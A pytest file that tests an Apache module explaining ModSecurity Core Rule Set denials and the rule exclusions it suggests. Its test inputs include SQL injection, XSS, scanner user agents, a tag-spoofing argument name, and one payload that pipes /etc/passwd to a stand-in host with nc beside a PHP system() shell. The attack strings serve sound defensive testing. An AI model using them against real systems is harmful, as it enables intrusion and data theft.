"""test_waf_crs.py — ModSecurity with the OWASP Core Rule Set as Debian ships
it (libapache2-mod-security2 + modsecurity-crs), loaded the way Debian's
security2.conf loads it: the site's ModSecurity settings (Debian's
modsecurity.conf-recommended with SecRuleEngine On) included from a
directory, then /usr/share/modsecurity-crs/*.load.

CRS denies by anomaly score (949110); the rules that matched wrote their
own "ModSecurity: Warning." lines with the request's unique_id.  The entry
must list exactly those rules (checked against the Warning lines of that
very request in the error log), the score and threshold, and a hint that
excludes the contributing rule for the matched variable on this path, for
false positives only, never the removal of a blocking-evaluation rule.
The fix is then applied to a copy of the configuration, stock httpd is
restarted, and the false positive must pass while other attacks are still
blocked."""
import os
import re
import shutil

import pytest

import harness
from harness import decode, field, response_and_entry

CRS_LOAD = "/usr/share/modsecurity-crs/owasp-crs.load"
RECOMMENDED = "/etc/modsecurity/modsecurity.conf-recommended"

pytestmark = pytest.mark.skipif(
    not os.path.exists(CRS_LOAD) or not os.path.exists(RECOMMENDED),
    reason="needs Debian's modsecurity-crs and libapache2-mod-security2")

SQLI = "/index.html?id=1'%20OR%20'1'='1"
SQLI_OTHER_PARAM = "/index.html?name=1'%20OR%20'1'='1"
SQLI_OTHER_PATH = "/other.html?id=1'%20OR%20'1'='1"
XSS = "/index.html?q=%3Cscript%3Ealert(1)%3C/script%3E"
XSS_OTHER_PATH = "/other.html?q=%3Cscript%3Ealert(1)%3C/script%3E"
EVALUATION = re.compile(r"^9(49|59|80)\d{3}$")
WARNING_RE = re.compile(r"ModSecurity: Warning\. .*\[unique_id \"([^\"]+)\"\]$")


def crs_httpd(name, with_module=True, extra=""):
    """An httpd with CRS loaded as Debian's security2.conf does."""
    h = harness.Httpd(name=name, with_module=with_module,
                      extra_modules=["unique_id", "security2"])
    conf_d = h.mkdir("conf/modsecurity")
    with open(RECOMMENDED) as f:
        rec = f.read()
    rec = rec.replace("SecRuleEngine DetectionOnly", "SecRuleEngine On")
    rec = rec.replace("/var/log/apache2/modsec_audit.log",
                      h.root + "/logs/modsec_audit.log")
    rec = rec.replace("SecTmpDir /tmp/", "SecTmpDir %s/logs/modsec" % h.root)
    rec = rec.replace("SecDataDir /tmp/", "SecDataDir %s/logs/modsec" % h.root)
    h.write("conf/modsecurity/modsecurity.conf", rec)
    shutil.copy("/etc/modsecurity/unicode.mapping", conf_d)
    h.mkdir("logs/modsec", owner=("www-data", "www-data"))
    h.conf("<IfModule security2_module>\n"
           "    SecDataDir {root}/logs/modsec\n"
           "    IncludeOptional {root}/conf/modsecurity/*.conf\n"
           "    IncludeOptional /usr/share/modsecurity-crs/*.load\n"
           "</IfModule>")
    if extra:
        h.conf(extra)
    h.write("htdocs/index.html", "index\n")
    h.write("htdocs/other.html", "other\n")
    return h


@pytest.fixture(scope="module")
def servers():
    stock = crs_httpd("crs-stock", with_module=False)
    mod = crs_httpd("crs-mod", extra='ForbiddenExplainRedact "s3cr3t" log')
    try:
        stock.start()
        mod.start()
        yield stock, mod
    finally:
        stock.cleanup()
        mod.cleanup()


def warning_ids(h, unique_id):
    """The rule ids of the Warning lines ModSecurity wrote with unique_id,
    as the error log holds them (the blocking evaluation excluded)."""
    ids = []
    for line in h.read_error_log().splitlines():
        m = WARNING_RE.search(line)
        if not m or m.group(1) != unique_id:
            continue
        # the metadata of a real line ends "... [id "N"] ... [unique_id]";
        # take the last [file] of the line, after which it is ModSecurity's
        start = line.rfind(' [file "/usr/share/modsecurity-crs/')
        rid = re.search(r'\[id "(\d+)"\]', line[start:]).group(1)
        if not EVALUATION.match(rid):
            ids.append(rid)
    return ids


def denial_line(h, unique_id):
    for line in h.read_error_log().splitlines():
        if ("ModSecurity: Access denied with code 403" in line
                and '[unique_id "%s"]' % unique_id in line):
            return line
    raise AssertionError("no denial with " + unique_id)


def rule_directive_at(path, line):
    """The text of the directive that ends at line (continuations joined)."""
    with open(path) as f:
        lines = f.read().split("\n")
    i = line - 1
    text = [lines[i]]
    while i > 0 and lines[i - 1].rstrip().endswith("\\"):
        i -= 1
        text.insert(0, lines[i])
    return "\n".join(text)


def blocked_with_entry(servers, path, headers=None, source="127.0.0.1"):
    stock, mod = servers
    rs = stock.get(path, headers=headers, source=source)
    rm, e = response_and_entry(mod, lambda: mod.get(path, headers=headers,
                                                    source=source))
    assert rs.status == 403 and rm.status == 403
    assert rs.body == rm.body               # nothing changes for the client
    assert e is not None
    return e


def check_crs_entry(h, e):
    """Everything the entry says, against the error log of this request."""
    assert e["reason"] == "waf"
    assert e["protection"] == "waf"
    assert e["module"] == "mod_security2.c"
    assert e["waf_rule_id"] == "949110"
    assert e["waf_mode"] == "anomaly"
    # the directive as the configuration holds it at that file:line
    assert field(e, "directive").startswith("SecRule TX:ANOMALY_SCORE ")
    assert "id:949110," in field(e, "directive")
    (b,) = e["blockers"]
    assert b["file"] == e["file"] and b["line"] == e["line"]
    assert "id:949110," in decode(b["directive"])
    uid = field(e, "waf_unique_id")
    deny = denial_line(h, uid)
    total = int(re.search(r"Total Score: (\d+)", deny).group(1))
    threshold = int(re.search(r"Operator GE matched (\d+) at TX", deny).group(1))
    assert e["waf_score"] == total
    assert e["waf_threshold"] == threshold
    logged = warning_ids(h, uid)
    listed = [r["id"] for r in e["waf_rules"]]
    assert listed == logged, (listed, logged)
    for r in e["waf_rules"]:
        assert not EVALUATION.match(r["id"])
        # file:line is the directive that holds this id
        assert "id:%s," % r["id"] in rule_directive_at(decode(r["file"]),
                                                      r["line"])
    assert sum(r["score"] for r in e["waf_rules"]) == total
    assert e["waf_score_accounted"] is True
    # never the removal of a blocking-evaluation rule
    hint = field(e, "hint")
    fix_text = " ".join(decode(op.get("text", "")) for op in e["fix"])
    for rid in ("949110", "959100", "980130"):
        assert "RemoveById=" + rid not in fix_text
        assert "SecRuleRemoveById " + rid not in fix_text + hint
    assert "false positive" in hint
    assert e["hint_verified"] is False
    assert field(e, "hint_unverified") == \
        "ModSecurity rules are not re-evaluated by the module"
    return {r["id"]: r for r in e["waf_rules"]}


def test_sql_injection(servers):
    stock, mod = servers
    e = blocked_with_entry(servers, SQLI)
    rules = check_crs_entry(mod, e)
    r = rules["942100"]
    assert "attack-sqli" in r["tags"]
    assert r["severity"] == "CRITICAL"
    assert r["paranoia_level"] == 1
    assert decode(r["variable"]) == "ARGS:id"
    assert decode(r["value"]) == "1' OR '1'='1"
    assert decode(r["file"]).endswith("REQUEST-942-APPLICATION-ATTACK-SQLI.conf")
    assert e["waf_paranoia_level_at_least"] == 1
    fix = decode(e["fix"][0]["text"])
    assert "ctl:ruleRemoveTargetById=942100;ARGS:id" in fix
    assert '"@streq /index.html"' in fix
    # only what is needed to fall below the threshold: not the Host rule
    assert "920350" not in fix


def test_xss(servers):
    stock, mod = servers
    e = blocked_with_entry(servers, XSS)
    rules = check_crs_entry(mod, e)
    assert "941100" in rules
    for r in rules.values():
        if r["id"].startswith("941"):
            assert "attack-xss" in r["tags"]
            assert decode(r["variable"]) == "ARGS:q"
    fix = decode(e["fix"][0]["text"])
    for rid in rules:
        if rid.startswith("941"):
            assert "ctl:ruleRemoveTargetById=%s;ARGS:q" % rid in fix


@pytest.mark.parametrize("agent,word", [("sqlmap/1.7.2#stable", "sqlmap"),
                                        ("Mozilla/5.00 (Nikto/2.1.6)", "nikto")])
def test_scanner_user_agent(servers, agent, word):
    stock, mod = servers
    e = blocked_with_entry(servers, "/index.html",
                           headers={"User-Agent": agent})
    rules = check_crs_entry(mod, e)
    r = rules["913100"]
    assert "attack-reputation-scanner" in r["tags"]
    assert decode(r["variable"]) == "REQUEST_HEADERS:User-Agent"
    assert decode(r["matched"]).lower() == word
    assert ("ctl:ruleRemoveTargetById=913100;REQUEST_HEADERS:User-Agent"
            in decode(e["fix"][0]["text"]))


def test_allowed_request_with_warnings_has_no_entry(servers):
    stock, mod = servers
    # 920350 (numeric Host) matches every request here: score 3 < 5
    rm, e = response_and_entry(mod, lambda: mod.get("/index.html?id=42"))
    assert rm.status == 200 and e is None
    assert stock.get("/index.html?id=42").status == 200


def test_matched_data_is_redacted(servers):
    stock, mod = servers
    e = blocked_with_entry(servers, "/index.html?id=1'%20OR%20's3cr3t'='s3cr3t")
    assert "s3cr3t" not in str(e)
    r = {x["id"]: x for x in e["waf_rules"]}["942100"]
    assert "[redacted]" in decode(r["value"])


def test_tags_in_a_variable_name_are_not_taken_for_the_rule(servers):
    """A client's argument name is written unescaped into the match
    description; tag-like text in it must not name a rule."""
    stock, mod = servers
    name = '"] [file "/etc/passwd"] [line "1"] [id "31337"] [msg "x'
    from urllib.parse import quote
    path = "/index.html?%s=%s" % (quote(name, safe=""),
                                  quote("<script>alert(1)</script>"))
    e = blocked_with_entry(servers, path)
    rules = check_crs_entry(mod, e)
    assert "31337" not in rules
    assert all(decode(r["file"]).startswith("/usr/share/modsecurity-crs/")
               for r in rules.values())
    # the spoofed name is in ModSecurity's own line, as it wrote it
    assert '[id "31337"]' in mod.read_error_log()


def apply_fix(text, ops, conf_file):
    """Apply the entry's fix to the configuration text mechanically."""
    lines = text.split("\n")
    for op in ops:
        assert decode(op["file"]) == conf_file, op
        if op["op"] == "insert":
            new = decode(op["text"]).split("\n")
            at = op["after_line"]
            lines[at:at] = new
        else:
            raise AssertionError("unexpected op %r" % op)
    return "\n".join(lines)


def restart_stock_with(mod, ops, name):
    """A stock httpd (no module) on a copy of mod's configuration with the
    fix applied; returns it started."""
    with open(mod.conf_file) as f:
        text = apply_fix(f.read(), ops, mod.conf_file)
    h = crs_httpd(name, with_module=False)
    # the same configuration, moved to h's ServerRoot and port, without
    # the module (its LoadModule line sits before the fixed lines)
    text = text.replace(mod.root, h.root).replace(
        "127.0.0.1:%d" % mod.port, "127.0.0.1:%d" % h.port)
    text = "\n".join(l for l in text.split("\n")
                     if not l.startswith("LoadModule forbidden_explain_module")
                     and not l.startswith("ForbiddenExplain"))
    h.render_conf = lambda: text
    h.start()
    return h


def test_fix_for_sqli_false_positive(servers):
    stock, mod = servers
    e = blocked_with_entry(servers, SQLI, source="127.0.0.2")
    fixed = restart_stock_with(mod, e["fix"], "crs-fixed")
    try:
        assert fixed.get(SQLI).status == 200           # the false positive
        assert fixed.get(XSS).status == 403            # another attack
        assert fixed.get(SQLI_OTHER_PARAM).status == 403   # other variable
        assert fixed.get(SQLI_OTHER_PATH).status == 403    # other path
        assert fixed.get("/index.html",
                         headers={"User-Agent": "sqlmap/1.7"}).status == 403
    finally:
        fixed.cleanup()


def test_fix_for_scanner_false_positive(servers):
    stock, mod = servers
    e = blocked_with_entry(servers, "/index.html", source="127.0.0.3",
                           headers={"User-Agent": "sqlmap/1.7"})
    fixed = restart_stock_with(mod, e["fix"], "crs-fixed2")
    try:
        assert fixed.get("/index.html",
                         headers={"User-Agent": "sqlmap/1.7"}).status == 200
        assert fixed.get("/other.html",
                         headers={"User-Agent": "sqlmap/1.7"}).status == 403
        assert fixed.get(XSS).status == 403
        assert fixed.get(SQLI).status == 403
    finally:
        fixed.cleanup()


def test_many_rules_stay_bounded_and_counted(servers):
    """A request that makes ~80 rules match: the entry stays one bounded
    line, lists the first rules in logged order and counts the rest; the
    score still adds up over every Warning line of the request."""
    from urllib.parse import quote
    stock, mod = servers
    payload = ("1' UNION SELECT password FROM users-- <script>alert(1)"
               "</script> ../../etc/passwd ; cat /etc/passwd | nc evil 1 "
               "<?php system($_GET[x]); ?>")
    qs = "&".join("%s=%s" % (n, quote(payload)) for n in "abcd")
    e = blocked_with_entry(servers, "/index.html?" + qs, source="127.0.0.4",
                           headers={"User-Agent": "sqlmap/1.7"})
    uid = field(e, "waf_unique_id")
    logged = warning_ids(mod, uid)
    listed = [r["id"] for r in e["waf_rules"]]
    assert len(logged) > 40
    assert listed == logged[:len(listed)]
    assert len(listed) + e["waf_rules_omitted"] == len(logged)
    assert e["waf_score_accounted"] is True
    line = [l for l in mod.read_error_log().splitlines()
            if "forbidden_explain" in l and uid in l][-1]
    assert len(line) < 8192
    assert "truncated" not in e or "waf_rules" not in e["truncated"]


DEBIAN_SECURITY2 = "/etc/apache2/mods-available/security2.conf"


@pytest.mark.skipif(not os.path.exists(DEBIAN_SECURITY2),
                    reason="needs Debian's security2.conf")
def test_fix_goes_into_debian_security2_conf():
    """Debian's own security2.conf included as is: the exclusion goes right
    before its IncludeOptional of the CRS (not into the package's files
    under /usr/share); applied to a copy of it, stock httpd passes the false
    positive and still blocks XSS."""
    with open(DEBIAN_SECURITY2) as f:
        shipped = f.read()
    crs_line = 1 + shipped.split("\n").index(
        next(l for l in shipped.split("\n")
             if "IncludeOptional /usr/share/modsecurity-crs/" in l))

    def debian_httpd(name, with_module, security2):
        h = harness.Httpd(name=name, with_module=with_module,
                          extra_modules=["unique_id", "security2"])
        h.mkdir("logs/modsec", owner=("www-data", "www-data"))
        h.conf("Include %s\n"
               "SecRuleEngine On\n"
               "SecDataDir {root}/logs/modsec" % security2)
        h.write("htdocs/index.html", "index\n")
        return h

    mod = debian_httpd("crs-deb", True, DEBIAN_SECURITY2)
    fixed = None
    try:
        mod.start()
        rm, e = response_and_entry(mod, lambda: mod.get(SQLI))
        assert rm.status == 403
        check_crs_entry(mod, e)
        (op,) = e["fix"]
        assert decode(op["file"]) == DEBIAN_SECURITY2
        assert op["after_line"] == crs_line - 1
        fixed = debian_httpd("crs-deb-fixed", False, "{root}/conf/security2.conf")
        fixed.write("conf/security2.conf", apply_fix(shipped, [op],
                                                     DEBIAN_SECURITY2))
        fixed.start()
        assert fixed.get(SQLI).status == 200
        assert fixed.get(XSS).status == 403
        assert fixed.get(SQLI_OTHER_PARAM).status == 403
    finally:
        mod.cleanup()
        if fixed:
            fixed.cleanup()


def test_location_scoped_update_target_is_refused_by_modsecurity():
    """Why the fix is a runtime exclusion and not the <Location> form:
    ModSecurity 2 refuses SecRuleUpdateTargetById outside the context that
    defines the rule.  Should a future ModSecurity accept it, this fails and
    the simpler form can be offered."""
    h = crs_httpd("crs-loc", with_module=False,
                  extra='<Location "/index.html">\n'
                        '    SecRuleUpdateTargetById 942100 "!ARGS:id"\n'
                        '</Location>')
    try:
        rc, out = h.configtest()
        assert rc != 0
        assert "Updating target by ID with no ruleset in this context" in out
    finally:
        h.cleanup()


FORM = {"Content-Type": "application/x-www-form-urlencoded"}


def post(h, path, body):
    return h.request(path, method="POST", headers=FORM, body=body)


def test_form_field_false_positive(servers):
    """The common false positive: a form field in a POST body, which the
    module does not see; libinjection's match names no variable, CRS's
    [data] does.  The fix for that field lets the form through and still
    blocks the same text in another field or on another path."""
    stock, mod = servers
    body = b"comment=1'%20OR%20'1'='1&name=joe"
    rs = post(stock, "/index.html", body)
    rm, e = response_and_entry(mod, lambda: post(mod, "/index.html", body))
    assert rs.status == 403 and rm.status == 403
    rules = check_crs_entry(mod, e)
    r = rules["942100"]
    assert decode(r["variable"]) == "ARGS:comment"
    assert r["variable_checked"] is False     # not seen by the module
    assert ("ctl:ruleRemoveTargetById=942100;ARGS:comment"
            in decode(e["fix"][0]["text"]))
    fixed = restart_stock_with(mod, e["fix"], "crs-fixed3")
    try:
        assert post(fixed, "/index.html", body).status == 200
        assert post(fixed, "/index.html",
                    b"name=1'%20OR%20'1'='1").status == 403
        assert post(fixed, "/other.html", body).status == 403
    finally:
        fixed.cleanup()


def test_after_graceful_restart(servers):
    """The rule ids and the Include map are rebuilt per generation (pconf
    is cleared on restart): the same entry after a graceful restart."""
    stock, mod = servers
    before = blocked_with_entry(servers, SQLI, source="127.0.0.5")
    mod.graceful()
    after = blocked_with_entry(servers, SQLI, source="127.0.0.5")
    check_crs_entry(mod, after)
    assert after["fix"] == before["fix"]
    assert field(after, "directive") == field(before, "directive")
